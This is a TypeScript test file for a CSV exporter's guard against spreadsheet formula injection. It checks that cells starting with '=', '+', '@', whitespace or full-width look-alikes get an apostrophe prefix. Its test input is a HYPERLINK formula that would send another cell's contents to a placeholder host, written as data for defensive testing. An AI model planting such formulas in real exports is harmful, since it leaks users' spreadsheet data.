import { describe, expect, it } from 'vitest';
import { csvDocument } from '../src/format/csv';

// Issue 38: OWASP's list of the characters a spreadsheet may take as the start of a formula,
// each before `=HYPERLINK(…)` and alone at the start of a cell.
const LEADING = {
  equals: '=',
  plus: '+',
  minus: '-',
  at: '@',
  tab: '\t',
  'carriage return': '\r',
  'line feed': '\n',
  space: ' ',
  'no-break space': '\u00A0',
  'zero-width space': '\u200B',
  'full-width equals': '\uFF1D',
  'full-width plus': '\uFF0B',
  'full-width minus': '\uFF0D',
  'full-width at': '\uFF20',
} as const;

/** The one cell of a one-cell document, unquoted. */
function cell(value: string): string {
  const line = csvDocument([[value]]).slice(1, -2);
  return line.startsWith('"') ? line.slice(1, -1).replace(/""/g, '"') : line;
}

describe('the CSV formula guard', () => {
  for (const [name, character] of Object.entries(LEADING)) {
    it(`keeps a cell that begins with ${name} as text`, () => {
      const value = `${character}HYPERLINK("https://example.org/?q="&A1)`;
      expect(cell(value)).toBe(`'${value}`);
      expect(cell(`${character}${character}=1+1`)).toBe(`'${character}${character}=1+1`);
    });
  }

  it('leaves ordinary text, numbers and dates as they are', () => {
    for (const value of ['Anna', '12', '0,5', '2026-12-02', 'Malmö stad', 'a=b', '']) {
      expect(cell(value)).toBe(value);
    }
  });
});
